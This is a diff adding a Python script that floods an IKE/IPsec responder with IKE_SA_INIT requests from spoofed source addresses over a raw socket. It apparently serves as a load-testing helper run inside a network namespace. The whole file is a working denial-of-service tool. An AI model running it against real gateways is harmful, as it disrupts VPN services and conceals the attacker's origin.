@@ -1,0 +1,73 @@
+"""A flood of IKE_SA_INIT requests from spoofed source addresses, sent as fast as one Python process can on a raw
+socket (IP_HDRINCL: the source is whatever the packet says). Run as a child process in a namespace:
+
+    python3 lib/flood.py DESTINATION SECONDS SOURCE...   (a SOURCE may be a prefix like 198.18.0.0/15)
+
+Every request offers aes256gcm16-prfsha256-x25519 with its own initiator SPI (8,192 prepared, sent in a loop).
+Prints `sent N in S s` at the end."""
+import ipaddress, os, random, socket, struct, sys, time
+
+
+def ike_sa_init():
+    """An IKE_SA_INIT request offering aes256gcm16-prfsha256-x25519 (RFC 7296 section 3), random SPI, KE and nonce."""
+    def transform(more, kind, ident, attribute=b""):
+        return struct.pack("!BBHBBH", 3 if more else 0, 0, 8 + len(attribute), kind, 0, ident) + attribute
+    transforms = transform(True, 1, 20, struct.pack("!HH", 0x800E, 256)) + transform(True, 2, 5) + transform(False, 4, 31)
+    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
+    sa = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
+    ke = struct.pack("!BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)
+    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
+    body = sa + ke + nonce
+    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def packet(source, destination, ike):
+    udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike  # UDP checksum 0: none, allowed over IPv4
+    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
+    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
+    return header + udp
+
+
+def sources(specs, count):
+    """`count` source addresses drawn from the given addresses and prefixes."""
+    pools = [ipaddress.ip_network(spec, strict=False) for spec in specs]
+    chosen = []
+    for _ in range(count):
+        pool = random.choice(pools)
+        chosen.append(str(pool.network_address + random.randrange(pool.num_addresses)))
+    return chosen
+
+
+def main():
+    destination, seconds, specs = sys.argv[1], float(sys.argv[2]), sys.argv[3:]
+    template = ike_sa_init()
+    packets = [packet(source, destination, os.urandom(8) + template[8:]) for source in sources(specs, 8192)]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    target = (destination, 0)
+    sent, start = 0, time.time()
+    end = start + seconds
+    send = s.sendto
+    while True:
+        for p in packets:
+            try:
+                send(p, target)
+                sent += 1
+            except (BlockingIOError, OSError):
+                pass
+        if time.time() >= end:
+            break
+    print(f"sent {sent} in {time.time() - start:.1f} s", flush=True)
+
+
+if __name__ == "__main__":
+    main()
